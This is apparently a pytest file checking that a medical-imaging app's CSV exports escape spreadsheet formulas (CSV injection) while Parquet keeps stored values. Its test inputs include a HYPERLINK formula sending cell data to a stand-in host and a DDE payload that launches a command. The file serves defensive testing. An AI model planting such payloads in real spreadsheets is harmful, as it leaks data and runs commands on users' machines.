"""CSV downloads and exports never hand a spreadsheet a formula (OWASP CSV injection): a text
cell starting with = + - @, a tab or a carriage return gets a leading ', numbers stay numbers,
and Parquet keeps the values as stored."""
from __future__ import annotations

import csv
import io

import numpy as np
import pandas as pd
import pyarrow.parquet as pq
import pytest

from core.cases.library import NewCase, save_cases
from core.csv_cells import csv_text, neutralise
from core.export import export_tables

FORMULAS = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_a_leading_quote(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["Fibroadenoma", "", "a=b", "4A", "O'Brien", "é-1"])
def test_plain_text_is_left_alone(text):
    assert neutralise(text) == text


def test_a_frame_keeps_its_numbers_and_neutralises_its_text():
    frame = pd.DataFrame({"trainee": FORMULAS, "auc": [-0.5, 0.1, 0.2, 0.3, 0.4, 0.5],
                          "mixed": ["=1", 2, None, "-x", 5.5, "ok"]})
    rows = list(csv.DictReader(io.StringIO(csv_text(frame))))
    assert [row["trainee"] for row in rows] == ["'" + text for text in FORMULAS]
    assert rows[0]["auc"] == "-0.5"
    assert [row["mixed"] for row in rows] == ["'=1", "2", "", "'-x", "5.5", "ok"]
    assert frame["trainee"].tolist() == FORMULAS  # the caller's frame is unchanged


def test_the_export_neutralises_names_and_free_text(store, tmp_path):
    image = np.random.default_rng(0).integers(0, 256, (32, 32), dtype=np.uint8)
    save_cases(store, "toy", "folder", [NewCase("=cmd.png", "benign", image,
                                                histology="@SUM(A1)", patient_id="-1")])
    with store.transaction() as cur:
        cur.execute("INSERT INTO users (username, display_name, password_hash, role) "
                    "VALUES (?, ?, ?, ?)", ["ana", FORMULAS[0], "$argon2id$x", "trainee"])
    export_tables(store, tmp_path / "csv", "csv")
    with open(tmp_path / "csv" / "users.csv", newline="") as handle:
        (user,) = list(csv.DictReader(handle))
    assert user["display_name"] == "'" + FORMULAS[0]
    with open(tmp_path / "csv" / "cases.csv", newline="") as handle:
        (case,) = list(csv.DictReader(handle))
    assert (case["source_path"], case["histology"], case["patient_id"]) == (
        "'=cmd.png", "'@SUM(A1)", "'-1")
    assert case["width"] == "32"
    export_tables(store, tmp_path / "pq", "parquet")
    assert pq.read_table(tmp_path / "pq" / "users.parquet").to_pylist()[0]["display_name"] \
        == FORMULAS[0]
